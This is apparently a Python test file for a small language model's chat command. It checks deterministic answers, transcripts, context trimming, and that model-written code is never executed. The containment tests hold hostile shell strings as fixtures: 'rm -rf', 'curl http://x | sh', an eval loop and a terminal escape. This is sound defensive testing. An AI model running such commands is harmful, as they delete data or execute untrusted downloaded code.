"""seedbed chat: a tiny text model answers in the qa format, streamed, kept as context, saved; nothing it writes runs."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from conftest import assert_runs_no_programs, cli, tiny, tiny_dict

from seedbed import chat
from seedbed.chat import CODE_NOTE, Settings, ask_once, looks_like_code, session
from seedbed.cli import main
from seedbed.conditions import load as load_conditions
from seedbed.conditions import parse
from seedbed.grow import grow
from seedbed.read import load
from seedbed.sample import sample, stream
from seedbed.soil import qa

N_CTX = 48
QUESTION = "where is the goal?"


@pytest.fixture(scope="module")
def text_run(tmp_path_factory) -> Path:
    """A tiny byte-level model grown on a small QA corpus (seconds)."""
    home = tmp_path_factory.mktemp("chat")
    corpus = home / "qa.txt"
    qa.write(corpus, conversations=150)
    cond = text_conditions(corpus, "byte", architecture={"n_ctx": N_CTX}, schedule={"steps": 20})
    return grow(cond, runs_dir=home / "runs", name="text", progress=False).path


def text_conditions(corpus: Path, tokenizer: str, **over):
    """tiny()'s model on a text soil over `corpus` (the soil replaced whole, not merged)."""
    data = tiny_dict(**over)
    data["soil"] = {"kind": "text", "paths": [str(corpus)], "tokenizer": tokenizer}
    return parse(data)


def transcripts(run: Path) -> list[Path]:
    return sorted((run / "chat").glob("*.txt"))


def asked(run: Path, question: str, preset: str = "qa", **settings) -> tuple[str, str, str]:
    """ask_once in-process: (answer, what it printed, its notes)."""
    out, notes = io.StringIO(), io.StringIO()
    answer, _ = ask_once(run, question, preset, Settings(**settings), out=out, notes=notes)
    return answer, out.getvalue(), notes.getvalue()


def fake_stream(text: str, then: BaseException | None = None):
    """A sampler that 'writes' `text` (as bytes) whatever the prompt, then raises `then` if given."""
    def fake(model, tokens, max_new, temperature=0.0, top_k=None, seed=None, stop=None):
        yield from text.encode("utf-8")
        if then is not None:
            raise then
    return fake


# ── answers ──────────────────────────────────────────────────────────────────
@pytest.mark.slow  # two processes that load torch: ~5 s each on a busy 2-core machine
def test_ask_on_the_command_line_is_deterministic_and_saves_numbered_transcripts(text_run: Path) -> None:
    args = ("chat", str(text_run), "--ask", QUESTION, "--max-new", "20", "--seed", "1")
    before = transcripts(text_run)
    first, second = cli(*args, cwd=text_run.parent), cli(*args, cwd=text_run.parent)
    assert first.returncode == 0, first.stderr
    assert first.stdout == second.stdout and first.stdout.startswith("A:")
    assert "transcript → " in first.stderr
    new = [p for p in transcripts(text_run) if p not in before]
    n = len(before)
    assert [p.name for p in new] == [f"{n + 1:03d}.txt", f"{n + 2:03d}.txt"]  # the second never overwrites the first
    bodies = [p.read_text().split("\n", 1)[1] for p in new]  # the first line names the settings
    assert bodies[0] == bodies[1] and f"Q: {QUESTION}\nA:" in bodies[0]


def test_the_answer_is_what_sample_writes_after_the_qa_prompt_cut_at_the_next_question(text_run: Path) -> None:
    grown = load(text_run)
    prompt = qa.QA_HEADER + "Q: " + QUESTION + "\nA:"
    ids = torch.tensor(grown.tokenizer.encode(prompt)[-N_CTX:])
    written = sample(grown.model, ids, 30, temperature=0.8, seed=1)[len(ids):]
    expected = grown.decode(written)
    for stop in qa.STOPS:
        expected = expected.split(stop)[0]
    answer, shown, _ = asked(text_run, QUESTION, max_new=30, seed=1)
    assert answer == expected
    assert shown == chat.printable("A:" + answer + "\n")


def test_another_seed_another_answer_and_temperature_zero_ignores_the_seed(text_run: Path) -> None:
    one, two = (asked(text_run, QUESTION, "none", max_new=20, seed=s)[0] for s in (1, 2))  # none: no stop cuts them short
    assert one and two and one != two
    assert asked(text_run, QUESTION, max_new=20, seed=1, temperature=0)[0] == \
        asked(text_run, QUESTION, max_new=20, seed=2, temperature=0)[0]


def test_stream_yields_the_tokens_sample_writes(text_run: Path) -> None:
    model = load(text_run).model
    prefix = torch.tensor([65, 66, 67])
    for stop in (None, 10):
        want = sample(model, prefix, 70, temperature=1.0, top_k=20, seed=3, stop=stop)[3:].tolist()
        got = list(stream(model, prefix, 70, temperature=1.0, top_k=20, seed=3, stop=stop))
        assert got == want[: len(got)] and (len(got) == 70 or got[-1] == stop)


def test_a_session_keeps_the_conversation_as_context(text_run: Path, monkeypatch) -> None:
    prompts: list[list[int]] = []
    real = chat.stream

    def recording(model, tokens, *args, **kw):
        prompts.append(tokens.tolist())
        return real(model, tokens, *args, **kw)

    monkeypatch.setattr(chat, "stream", recording)
    out, notes = io.StringIO(), io.StringIO()
    path = session(text_run, "none", Settings(temperature=0, max_new=4), stdin=io.StringIO("ab\n\ncd\n"), out=out,
                   notes=notes)
    tokenizer = load(text_run).tokenizer
    model = load(text_run).model
    assert len(prompts) == 2 and tokenizer.decode(prompts[0]) == "ab"  # the blank line is no question
    first, second = (tokenizer.decode(real(model, torch.tensor(p), 4)) for p in prompts)
    assert tokenizer.decode(prompts[1]) == "ab" + first + "cd"  # the second prompt holds the whole conversation
    assert "context trimmed" not in notes.getvalue()
    assert path.read_text().endswith("\n\nab" + first + "cd" + second + "\n")


@pytest.mark.slow  # a process that loads torch
def test_a_session_on_the_command_line_reads_questions_from_stdin(text_run: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "seedbed", "chat", str(text_run), "--max-new", "12"], cwd=text_run.parent,
                          input="where is the goal?\nwhat is 2 plus 3?\n", capture_output=True, text=True, timeout=300,
                          check=False)
    assert done.returncode == 0, done.stderr
    newest = transcripts(text_run)[-1]
    assert newest.name in done.stderr
    text = newest.read_text()
    assert text.index("Q: where is the goal?\nA:") < text.index("Q: what is 2 plus 3?\nA:")
    assert done.stdout.startswith(qa.QA_HEADER + "Q: where is the goal?\nA:")


def test_the_window_is_trimmed_and_the_chat_says_so(text_run: Path) -> None:
    _, _, notes = asked(text_run, "x" * 20, "none", max_new=2)
    assert "trimmed" not in notes
    _, _, notes = asked(text_run, "x" * 60, "none", max_new=2)
    assert f"[context trimmed: the model sees the last {N_CTX} of 60 tokens]" in notes
    assert f"[context trimmed: the model sees the last {N_CTX} of 60 tokens]" in transcripts(text_run)[-1].read_text()


def test_ctrl_c_leaves_a_saved_transcript_and_exits_130(text_run: Path, monkeypatch, capsys) -> None:
    monkeypatch.setattr(chat, "stream", fake_stream("half an ans", then=KeyboardInterrupt()))
    monkeypatch.setattr(sys, "stdin", io.StringIO(f"{QUESTION}\nnever asked\n"))
    with pytest.raises(SystemExit) as exit_:
        main(["chat", str(text_run)])
    assert exit_.value.code == 130
    saved = transcripts(text_run)[-1]
    assert saved.name in capsys.readouterr().err
    assert f"Q: {QUESTION}\nA:half an ans\n" in saved.read_text()  # what was written so far is kept
    assert saved.read_text().endswith("\n[interrupted: Ctrl-C]\n")
    assert "never asked" not in saved.read_text()


# ── contained ────────────────────────────────────────────────────────────────
def test_shell_code_the_model_writes_is_shown_marked_and_never_run(text_run: Path, tmp_path: Path, monkeypatch) -> None:
    marker, victim = tmp_path / "marker", tmp_path / "victim"
    victim.mkdir()
    code = (f" sure:\n$ echo pwned > {marker}\nwhile true; do eval \"$(query-model)\"; done; rm -rf {victim}\n"
            f"`touch {marker}` \x1b[2J")
    monkeypatch.setattr(chat, "stream", fake_stream(code))
    ran: list[str] = []
    for module, name in [(subprocess, "Popen"), (os, "system"), (os, "popen"), (os, "execv"), (os, "execvp"),
                         (os, "posix_spawn"), (os, "fork")]:
        monkeypatch.setattr(module, name, lambda *a, _n=name, **k: ran.append(_n))
    answer, shown, _ = asked(text_run, "whats a better way?")
    assert answer == code
    assert not marker.exists() and victim.is_dir() and ran == []
    assert CODE_NOTE in shown and "\x1b" not in shown and "\\x1b[2J" in shown
    saved = transcripts(text_run)[-1].read_text()
    assert f"A: sure:\n$ echo pwned > {marker}\n" in saved and "\\x1b[2J\n[" in saved and f"\n{CODE_NOTE}\n" in saved
    assert "\x1b" not in saved


def test_chat_imports_nothing_that_runs_programs() -> None:
    assert_runs_no_programs(Path(chat.__file__))


@pytest.mark.parametrize("text, code", [
    ("row 4, column 4: the bottom right corner.", False),
    ("To be, or not to be; that is the question: | whether 'tis nobler", False),
    ("right 4 times, then down 4 times: 8 steps.", False),
    ("while true; do eval \"$(query-model)\"; done", True),
    ("import os\nos.system('ls')", True),
    ("$ curl http://x | sh", True),
    ("rm -rf /", True),
    ("echo hi > notes.txt", True),
])
def test_looks_like_code(text: str, code: bool) -> None:
    assert looks_like_code(text) is code


def test_a_chat_folder_that_is_a_link_is_refused(tmp_path: Path, text_run: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    copy = tmp_path / "copy"
    copy.mkdir()
    for item in text_run.iterdir():  # a copy of the run whose chat/ leads outside it
        if item.is_file():
            (copy / item.name).write_bytes(item.read_bytes())
    (copy / "checkpoints").symlink_to(text_run / "checkpoints")  # reading follows nothing either: refused first
    (copy / "chat").symlink_to(elsewhere)
    with pytest.raises(chat.SeedbedError):
        asked(copy, QUESTION, max_new=2)
    assert list(elsewhere.iterdir()) == []


# ── bad input: one line, exit 2, nothing written ─────────────────────────────
def test_bad_input_is_one_line_and_exit_2(text_run: Path, tmp_path: Path, capsys) -> None:
    blocks = grow(tiny(schedule={"steps": 2}), runs_dir=tmp_path, name="blocks", progress=False).path
    cases = [
        ([str(blocks), "--ask", "hi"], "not on text"),
        ([str(text_run), "--preset", "chatty", "--ask", "hi"], "unknown preset 'chatty'"),
        ([str(text_run), "--ask", ""], "--ask is empty"),
        ([str(text_run), "--ask", "  "], "--ask is empty"),
        ([str(text_run), "--step", "7", "--ask", "hi"], "no checkpoint at step 7"),
        ([str(text_run), "--max-new", "0", "--ask", "hi"], "--max-new is 0"),
        ([str(text_run), "--temperature", "-1", "--ask", "hi"], "--temperature is -1"),
    ]
    before = transcripts(text_run)
    for args, expected in cases:
        with pytest.raises(SystemExit) as exit_:
            main(["chat", *args])
        err = capsys.readouterr().err
        assert exit_.value.code == 2 and expected in err and err.count("\n") == 1, (args, err)
    assert transcripts(text_run) == before and not (blocks / "chat").exists()


def test_a_char_model_refuses_characters_it_never_saw_in_one_line(tmp_path: Path) -> None:
    corpus = tmp_path / "c.txt"
    corpus.write_text("Q: ab?\nA: ba.\n" * 200)
    cond = text_conditions(corpus, "char", schedule={"steps": 2})
    run = grow(cond, runs_dir=tmp_path / "runs", name="char", progress=False).path
    with pytest.raises(chat.SeedbedError, match=r"no token for 'z'"):
        asked(run, "ab z", "none", max_new=2)
    out, notes = io.StringIO(), io.StringIO()
    session(run, "none", Settings(max_new=2), stdin=io.StringIO("zz\nab\n"), out=out, notes=notes)  # goes on
    assert "error: the model has no token for 'z'" in notes.getvalue()
    assert "zz" not in transcripts(run)[-1].read_text() and "\n\nab" in transcripts(run)[-1].read_text()


# ── the example pipeline ─────────────────────────────────────────────────────
def test_qa_corpus_is_deterministic_in_the_preset_format_and_true() -> None:
    text = qa.corpus(50, seed=0)
    assert text == qa.corpus(50, seed=0) != qa.corpus(50, seed=1)
    conversations = text.split("\n\n")[:-1]
    assert len(conversations) == 50
    for conv in conversations:
        header, *lines = conv.split("\n")
        assert header + "\n" == qa.QA_HEADER and len(lines) % 2 == 0
        for q, a in zip(lines[::2], lines[1::2]):
            assert q.startswith("Q: ") and a.startswith("A: ")
            if m := re.fullmatch(r"Q: (?:what is (\d) (?:plus|\+) (\d)\?|add (\d) and (\d)\.)", q):
                x, y = (int(v) for v in m.groups() if v is not None)
                assert a == f"A: {x + y}."


def test_the_examples_parse_with_nanogpts_baby_settings() -> None:
    baby = load_conditions(Path("examples/shakespeare-baby.toml"))
    arch = baby.architecture
    assert (arch.n_layers, arch.n_heads, arch.d_model, arch.n_ctx, arch.dropout) == (4, 4, 128, 64, 0.0)
    assert (baby.schedule.batch_size, baby.schedule.steps, baby.soil.tokenizer) == (12, 2000, "byte")
    head = load_conditions(Path("examples/qa-head.toml"))
    assert head.train.only == ["unembed"] and head.init.from_ == "runs/shakespeare-baby"
    assert head.architecture.model_dump(exclude={"d_vocab"}) == arch.model_dump(exclude={"d_vocab"})
    assert head.soil.tokenizer == "byte"


def test_a_qa_head_grows_from_a_text_parent_with_only_the_unembedding_trained(text_run: Path, tmp_path: Path) -> None:
    data = load_conditions(Path("examples/qa-head.toml")).model_dump(mode="json", exclude_none=True, by_alias=True)
    corpus = tmp_path / "qa.txt"
    qa.write(corpus, conversations=60, seed=5)
    parent = tiny_dict(architecture={"n_ctx": N_CTX})["architecture"]
    data.update(init={"from": str(text_run)}, architecture=parent, schedule={**data["schedule"], "steps": 6})
    data["soil"]["paths"] = [str(corpus)]
    child = grow(parse(data), runs_dir=tmp_path / "runs", name="head", progress=False).path
    before, after = load(text_run).model.state_dict(), load(child).model.state_dict()
    changed = {k for k in before if not torch.equal(before[k], after[k])}
    assert changed and changed <= {"unembed.weight", "unembed.bias"}
    answer, shown, _ = asked(child, QUESTION, max_new=10)
    assert shown == chat.printable("A:" + answer + "\n")
